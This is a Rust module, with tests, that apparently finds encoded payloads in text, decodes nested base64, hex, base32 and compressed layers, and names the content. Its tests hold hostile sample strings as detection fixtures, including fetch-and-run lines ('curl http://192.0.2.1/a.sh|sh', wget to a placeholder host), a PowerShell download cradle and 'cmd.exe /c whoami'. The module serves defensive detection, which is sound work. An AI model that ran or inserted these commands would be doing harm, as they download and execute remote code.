//! The encoded payload of a text: the longest encoded part, decoded and named by its content.
//!
//! It serves explanations; scores ask [`crate::evidence::signs`], which looks at less. What is decoded is for display: cut, with every character escaped that
//! would move a cursor or break a line. The work is bounded: the first 64 KiB of a text, the 16 longest runs, encodings nested up
//! to three deep, and one layer of compression.

use std::fmt;

use crate::escape::one_line;
use crate::evidence::content::{Content, as_text, content_of_bytes, content_of_text, readable, readable_part};
use crate::evidence::decoding::{decodings, inflated, joined_pieces, unpacked, without_escapes};
use crate::evidence::encoding::{Encoding, encoded_part, is_wordy, powershell_argument, runs};
use crate::evidence::signs::decoded_sign;
use crate::evidence::whole::find_whole;

/// Bytes of a text that are examined.
const MAX_TEXT_BYTES: usize = 64 << 10;
/// Nested encodings that are followed.
const MAX_DEPTH: usize = 3;
/// Runs of a text that are decoded.
const MAX_RUNS: usize = 16;
/// Characters of a decoded payload that are shown.
pub const MAX_DECODED_CHARS: usize = 200;

/// An encoded payload.
#[derive(Debug, PartialEq, Eq)]
pub struct Payload {
    pub encoding: Encoding,
    /// How many characters of the text it takes.
    pub characters: usize,
    /// What it is, if its bytes tell.
    pub content: Option<PayloadContent>,
    /// Its beginning, safe to display: at most [`MAX_DECODED_CHARS`] characters.
    pub decoded: String,
}

impl Payload {
    /// Whether the payload is nearly all of a text.
    pub fn fills(&self, text: &[u8]) -> bool {
        self.characters.saturating_mul(10) >= text.len().saturating_mul(8)
    }
}

/// What a payload is. As text: `gzip`, `PowerShell`, `base64 of ELF`.
#[derive(Debug, PartialEq, Eq)]
pub enum PayloadContent {
    Plain(Content),
    Encoded(Encoding, Box<PayloadContent>),
}

impl PayloadContent {
    /// Whether it is named as a command, in however many layers.
    pub fn is_executable(&self) -> bool {
        match self {
            Self::Plain(content) => matches!(content, Content::Executable(_) | Content::BytesWith(_)),
            Self::Encoded(_, inner) => inner.is_executable(),
        }
    }
}

impl fmt::Display for PayloadContent {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            Self::Plain(content) => f.write_str(content.name()),
            Self::Encoded(encoding, inner) => write!(f, "{} of {inner}", encoding.name()),
        }
    }
}

/// The payload of a normalised text, if it holds one.
pub fn find_payload(text: &[u8]) -> Option<Payload> {
    find_nested(text.get(..MAX_TEXT_BYTES).unwrap_or(text), MAX_DEPTH)
}

/// Payloads of which a better one may follow, the first of each kind.
#[derive(Default)]
struct Weaker {
    /// A command or a banner among other bytes may come from decoding that is off by a character.
    with_words: Option<Payload>,
    with_text: Option<Payload>,
    unnamed: Option<Payload>,
}

impl Weaker {
    /// Keeps a payload unless its content needs no better one; then it is returned.
    fn keep(&mut self, payload: Payload, counts_unnamed: bool) -> Option<Payload> {
        let place = match &payload.content {
            Some(PayloadContent::Plain(Content::BytesWith(_) | Content::BytesWithSshBanner)) => &mut self.with_words,
            Some(PayloadContent::Plain(Content::BytesWithText)) => &mut self.with_text,
            Some(_) => return Some(payload),
            None if counts_unnamed => &mut self.unnamed,
            None => return None,
        };
        place.get_or_insert(payload);
        None
    }
}

fn find_nested(text: &[u8], depth: usize) -> Option<Payload> {
    if is_binary(text) {
        return Some(payload(Encoding::EscapedBytes, text.len(), text, 1)); // bytes hold no further text
    }
    let mut weaker = Weaker::default();
    if let Some((encoding, bytes, is_most)) = without_escapes(text) {
        let found = payload(encoding, text.len(), &bytes, depth);
        let is_plain = matches!(found.content, None | Some(PayloadContent::Plain(Content::Text)));
        // A name or a sentence may have some escapes.
        if (is_most || !is_plain)
            && let Some(found) = weaker.keep(found, is_most)
        {
            return Some(found);
        }
    }
    let runs = longest_runs(text);
    let pieces = joined_pieces(text);
    // After PowerShell's switch even a short run is encoded. Joined pieces count only if their content is recognised.
    let argument = powershell_argument(text).map(|run| (Encoding::Base64, run, true));
    let pieces = pieces.iter().map(|(encoding, run)| (*encoding, &**run, false));
    let candidates = argument.into_iter().chain(pieces).chain(runs.iter().map(|(encoding, run)| (*encoding, *run, true)));
    for (encoding, run, is_one_piece) in candidates {
        // A name in this alphabet decodes to bytes too. A run without a digit must be long to count as encoded.
        const LONG_RUN: usize = 40;
        let is_likely = encoding != Encoding::Base32 && run.iter().any(u8::is_ascii_digit) || run.len() >= LONG_RUN;
        let counts_unnamed = is_likely && is_one_piece && !is_wordy(run);
        for bytes in decodings(encoding, run) {
            // A few words without their spaces may decode to letters of any script.
            if !is_one_piece && as_text(&bytes).is_some_and(|text| !text.is_ascii()) {
                continue;
            }
            let found = payload(encoding, run.len(), &bytes, depth);
            if !is_one_piece && found.content == Some(PayloadContent::Plain(Content::BytesWithText)) {
                continue;
            }
            if let Some(found) = weaker.keep(found, counts_unnamed) {
                return Some(found);
            }
        }
    }
    let deflated = || runs.first().and_then(|(encoding, run)| deflated_payload(*encoding, run, depth));
    weaker.with_words.or_else(|| whole_payload(text, depth)).or_else(deflated).or(weaker.with_text).or(weaker.unnamed)
}

/// The longest runs of a text that may be encoded, each once.
fn longest_runs(text: &[u8]) -> Vec<(Encoding, &[u8])> {
    const MIN_CHARS: usize = 16; // no encoding is recognised in fewer
    let mut all: Vec<&[u8]> = runs(text).filter(|run| run.len() >= MIN_CHARS).collect();
    all.sort_by_key(|run| std::cmp::Reverse(run.len())); // a stable sort: of equals the first stays first
    let mut found: Vec<(Encoding, &[u8])> = Vec::new();
    for (encoding, run) in all.into_iter().filter_map(encoded_part) {
        if found.len() == MAX_RUNS {
            break;
        }
        if !found.iter().any(|(_, known)| std::ptr::eq(*known, run)) {
            found.push((encoding, run));
        }
    }
    found
}

/// What deflate compressed, if a run decodes to that and it is text. It is tried last, because it has no signature.
fn deflated_payload(encoding: Encoding, run: &[u8], depth: usize) -> Option<Payload> {
    decodings(encoding, run).find_map(|bytes| {
        let inner = payload(Encoding::Deflate, bytes.len(), &inflated(&bytes)?, depth.saturating_sub(1));
        let is_text = !matches!(inner.content.as_ref()?, PayloadContent::Plain(Content::BytesWithText));
        is_text.then(|| inside(encoding, run.len(), inner)).flatten()
    })
}

/// What a text decodes to as a whole, however short it is and whatever its letters look like, if that is a sign.
fn whole_payload(text: &[u8], depth: usize) -> Option<Payload> {
    find_whole(text.trim_ascii(), |whole| decoded_sign(&whole).map(|_| payload(whole.encoding, whole.run.len(), &whole.bytes, depth)))
}

/// Whether a text is bytes that people cannot read: not UTF-8 with a quarter or more of it unusual, or half of it unusual with
/// control characters. Latin-1 prose is not binary.
fn is_binary(text: &[u8]) -> bool {
    let is_control = |byte: &&u8| byte.is_ascii_control() && !matches!(byte, b'\t' | b'\n' | b'\r');
    let unusual = text.iter().filter(|byte| is_control(byte) || !byte.is_ascii()).count();
    std::str::from_utf8(text).is_err() && unusual >= text.len().div_ceil(4)
        || unusual >= text.len().div_ceil(2) && text.iter().any(|byte| is_control(&byte))
}

/// A payload whose content is another one.
fn inside(encoding: Encoding, characters: usize, inner: Payload) -> Option<Payload> {
    let content = PayloadContent::Encoded(inner.encoding, Box::new(inner.content?));
    Some(Payload { encoding, characters, content: Some(content), decoded: inner.decoded })
}

fn payload(encoding: Encoding, characters: usize, bytes: &[u8], depth: usize) -> Payload {
    let text = as_text(bytes);
    let inner = match &text {
        _ if depth <= 1 => None,
        Some(text) => find_nested(text.as_bytes(), depth.saturating_sub(1)).filter(|inner| inner.fills(text.as_bytes())),
        // One layer of compression, in which nothing else is unpacked.
        None => unpacked(bytes).map(|(packing, inner)| payload(packing, bytes.len(), &inner, 1)),
    };
    if let Some(found) = inner.and_then(|inner| inside(encoding, characters, inner)) {
        return found;
    }
    let content = match &text {
        Some(text) => Some(content_of_text(text)),
        None => content_of_bytes(bytes),
    };
    let decoded = match (text, content) {
        (Some(text), _) => one_line(&text, MAX_DECODED_CHARS),
        (None, Some(Content::BytesWith(_) | Content::BytesWithSshBanner)) => one_line(readable(bytes).trim_start(), MAX_DECODED_CHARS),
        (None, Some(Content::BytesWithText)) => one_line(readable_part(bytes).unwrap_or_default(), MAX_DECODED_CHARS),
        _ => format!("{} bytes", bytes.len()),
    };
    Payload { encoding, characters, content: content.map(PayloadContent::Plain), decoded }
}

#[cfg(test)]
mod tests {
    use base64::Engine as _;
    use data_encoding::BASE32_NOPAD;

    use super::*;
    use proptest::prelude::*;

    fn found(text: &[u8]) -> (String, String, String) {
        let payload = find_payload(text).unwrap_or_else(|| panic!("nothing in {}", text.escape_ascii()));
        (payload.encoding.name().to_owned(), payload.content.map(|content| content.to_string()).unwrap_or_default(), payload.decoded)
    }

    fn base64(bytes: &[u8]) -> String {
        base64::engine::general_purpose::STANDARD.encode(bytes)
    }

    #[test]
    fn payloads_are_named_by_their_content() {
        let utf16: Vec<u8> = "iex (New-Object Net.WebClient)".encode_utf16().flat_map(u16::to_le_bytes).collect();
        for (text, expected) in [
            (base64(&utf16), ("base64", "PowerShell", "iex (New-Object Net.WebClient)")),
            (format!("v=spf1 include:{} ~all", base64(&utf16)), ("base64", "PowerShell", "iex (New-Object Net.WebClient)")),
            (base64(b"SSH-2.0-OpenSSH_9.2p1 Debian"), ("base64", "SSH banner", "SSH-2.0-OpenSSH_9.2p1 Debian")),
            (base64(br#"{"cmd": "sleep", "seconds": 30}"#), ("base64", "JSON", r#"{"cmd": "sleep", "seconds": 30}"#)),
            (base64(b"#!/bin/sh\nid > /tmp/Out9"), ("base64", "script", "#!/bin/sh id > /tmp/Out9")),
            ("636d642e657865202f632077686f616d69".into(), ("hex", "command", "cmd.exe /c whoami")),
            (BASE32_NOPAD.encode(b"curl http://192.0.2.1/a"), ("base32", "command", "curl http://192.0.2.1/a")),
            (base64(base64(b"wget http://192.0.2.7/Xy8").as_bytes()), ("base64", "base64 of command", "wget http://192.0.2.7/Xy8")),
        ] {
            let (encoding, content, shown) = found(text.as_bytes());
            assert_eq!((&*encoding, &*content, &*shown), expected, "{text}");
        }
        let gzip = [&[0x1f, 0x8b, 8, 0][..], &[0x9c; 40]].concat();
        assert_eq!(found(base64(&gzip).as_bytes()).1, "gzip");
        let elf = [b"\x7fELF\x02\x01\x01\0".as_slice(), &[0; 30]].concat();
        assert_eq!(found(&elf).0, "escaped bytes");
        assert_eq!(found(&elf).1, "ELF");
    }

    #[test]
    fn words_and_names_are_not_encodings() {
        for text in [
            "google-site-verification",
            "v=spf1 include:_spf.google-workspace.example.com -all",
            "this is a text of some words",
            "",
            "1234567890",
        ] {
            assert_eq!(find_payload(text.as_bytes()), None, "{text}");
        }
    }

    /// Found in review, each: payloads hidden by a prefix, a decoy, the end of a string or a tab, and names that are not encodings.
    #[test]
    fn payloads_are_found_after_prefixes_and_cuts_and_names_are_not_payloads() {
        let command = base64(b"cmd.exe /c whoami /all");
        for text in [
            format!("{} {command}", "a".repeat(70)),
            format!("facebook-domain-verification={}", base64(b"cmd.exe /c whoami")),
            format!("payload/{command}"),
            format!("a-b/{command}"),
            "0x636d642e657865202f632077686f616d69".into(),
            "636d642e657865202f632077686f616d692".into(),
            format!("{}\t{command}", "é".repeat(10)),
        ] {
            assert_eq!(found(text.as_bytes()).1, "command", "{text}");
        }
        let script: Vec<u8> = "iex (New-Object Net.WebClient)é".encode_utf16().flat_map(u16::to_le_bytes).collect();
        assert_eq!(found(base64(&script[..script.len() - 1]).as_bytes()).1, "PowerShell");
        let cut = "Привет, это".as_bytes();
        assert_eq!(found(base64(&cut[..cut.len() - 1]).as_bytes()).1, "text");
        for text in
            ["ms 2024010112000000", "mailserverforexamplecom2thisislong", "MyVeryBigTextOfSomeWords", "Привет мир\tэто текст записи"]
        {
            assert_eq!(find_payload(text.as_bytes()), None, "{text}");
        }
        assert_eq!(find_payload(b"Soci\xe9t\xe9 g\xe9n\xe9rale: propri\xe9t\xe9 priv\xe9e"), None);
    }

    /// Found in review, each: programs, payloads with `/` or `-` after a prefix, short PowerShell arguments and spaced payloads were missed.
    #[test]
    fn payloads_are_found_in_every_presentation_form() {
        let program = [&b"MZ\x90\0\x03\0\0\0\x04\0\0\0\xff\xff\0\0\xb8"[..], &[0; 15]].concat();
        let gzip = [&b"\x1f\x8b\x08\0"[..], &[0xfb, 0xff, 0xbe, 0x9c].repeat(12)].concat();
        let spaced = base64(&program).as_bytes().chunks(16).map(|line| String::from_utf8_lossy(line)).collect::<Vec<_>>().join(" ");
        for (text, expected) in [
            (base64(&program), "PE"),
            (format!("docusign={}", base64(&program)), "PE"),
            ("4d5a90000300000004000000ffff0000b8".into(), "PE"),
            (base64(b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0\x02\0>\0\x01"), "ELF"),
            (format!("dnslink=/ipfs/{}", base64(&gzip)), "gzip"),
            (format!("x-{}", base64(&gzip)), "gzip"),
            (format!("https://cdn.example/{}", base64(&gzip)), "gzip"),
            ("powershell -enc dwBoAG8AYQBtAGkA".into(), "command"),
            (spaced, "PE"),
            ("4d 5a 90 00 03 00 00 00 04 00 00 00".into(), "PE"),
            ("0x4d, 0x5a, 0x90, 0x00, 0x03, 0x00, 0x00, 0x00, 0x04".into(), "PE"),
            ("63:75:72:6c:20:68:74:74:70:3a:2f:2f:61".into(), "command"),
            (base64(b"\x1b]0;pwned\x07\x1b[2J cmd.exe /c whoami\x01\x02\x03"), "bytes with a command"),
        ] {
            assert_eq!(found(text.as_bytes()).1, expected, "{text}");
        }
    }

    /// Found on channels of real tools: a header of a few bytes or characters hid what stands behind it, and what was compressed or
    /// escaped was not read at all.
    #[test]
    fn payloads_are_found_behind_headers_and_under_escapes_and_compression() {
        let command = b"curl http://192.0.2.1/a.sh|sh";
        let behind_header = |bytes: &[u8]| base64(&[&b"\x04\x1f\x00\x01\x00\x02\x00\x05\x06"[..], bytes].concat());
        let mut gzip = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
        let mut zlib = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::best());
        let mut deflate = flate2::write::DeflateEncoder::new(Vec::new(), flate2::Compression::best());
        for writer in [&mut gzip as &mut dyn std::io::Write, &mut zlib, &mut deflate] {
            writer.write_all(command).unwrap();
        }
        let (gzip, zlib, deflate) = (gzip.finish().unwrap(), zlib.finish().unwrap(), deflate.finish().unwrap());
        let hex = |bytes: &[u8]| data_encoding::HEXLOWER.encode(bytes);
        let base32 = |bytes: &[u8]| BASE32_NOPAD.encode(bytes);
        let percent: String = command.iter().map(|byte| format!("%{byte:02x}")).collect();
        let escapes: String = command.iter().map(|byte| format!("\\u{byte:04x}")).collect();
        for (text, expected) in [
            (behind_header(b"SSH-2.0-OpenSSH_9.2p1"), ("base64", "bytes with SSH banner")),
            (behind_header(b"uid=0(root) gid=0(root)"), ("base64", "bytes with text")),
            (behind_header(command), ("base64", "bytes with a command")),
            (base64(&gzip), ("base64", "gzip of command")),
            (hex(&zlib), ("hex", "zlib of command")),
            (base64(&deflate), ("base64", "deflate of command")),
            (format!("x{}", hex(command)), ("hex", "command")),
            (format!("a{}", hex(command)), ("hex", "command")),
            (format!("01-{}", base32(command)), ("base32", "command")),
            (format!("Q{}", base32(command)), ("base32", "command")),
            (format!("9{}", base32(command)), ("base32", "command")),
            (percent.clone(), ("percent", "command")),
            (base64(percent.as_bytes()), ("base64", "percent of command")),
            (escapes, ("escapes", "command")),
        ] {
            let (encoding, content, decoded) = found(text.as_bytes());
            assert_eq!((&*encoding, &*content), expected, "{text} {decoded}");
            assert!(
                ["SSH-2.0-OpenSSH_9.2p1", "uid=0(root) gid", "curl http://192.0.2.1/a.sh|sh"].iter().any(|part| decoded.contains(part))
            );
        }
        for header in 1..=8 {
            let text = format!("{}{}", &"x7kP09qZ"[..header], base64(b"cmd.exe /c whoami /all /fo list"));
            assert!(found(text.as_bytes()).1.ends_with("command"), "{text}");
        }
        let big_endian: Vec<u8> = "iex (New-Object Net.WebClient)".encode_utf16().flat_map(u16::to_be_bytes).collect();
        assert_eq!(found(&[&[0xfe, 0xff][..], &big_endian].concat()).1, "PowerShell");
        assert_eq!(found(&big_endian).1, "PowerShell");
        for text in ["https://a.example/a%20long%20text%20of%20words", "v=spf1 exists:%{i}._spf.example.com -all"] {
            assert_eq!(find_payload(text.as_bytes()), None, "{text}");
        }
    }

    /// Found in review: paths and names with a prefix were called base64, or counted as part of it.
    #[test]
    fn paths_are_not_encodings() {
        for text in ["https://check.spamhaus.org/sbl/query/SBL123456", "https://github.com/ORG/RepoName2/Wiki/HomePage"] {
            assert_eq!(find_payload(text.as_bytes()), None, "{text}");
        }
        let token = find_payload(b"ZOOM_verify_q1Zx81kPq0Lm2Ns4Tv6Bw8").unwrap();
        assert_eq!((token.characters, token.decoded), (22, "16 bytes".to_owned()));
    }

    #[test]
    fn a_token_has_no_known_content() {
        let payload = find_payload(b"google-site-verification=GJMuHbEL31IeL2HPcHyGcFRl1SPnXNYvMIHa-2o76um").unwrap();
        assert_eq!((payload.encoding, payload.content), (Encoding::Base64Url, None));
    }

    proptest! {
        #[test]
        fn any_text_is_examined_without_a_panic_and_displayed_safely(text: Vec<u8>) {
            if let Some(payload) = find_payload(&text) {
                prop_assert!(payload.decoded.chars().count() <= MAX_DECODED_CHARS && !payload.decoded.chars().any(crate::escape::needs_escaping));
            }
        }

        #[test]
        fn what_was_encoded_is_found(words in "[a-z]{3,9} [A-Z0-9]{6,12} [a-z]{5,20}") {
            let (encoding, content, text) = found(base64(words.as_bytes()).as_bytes());
            prop_assert_eq!((&*encoding, &*content, text), ("base64", "text", words));
        }
    }
}
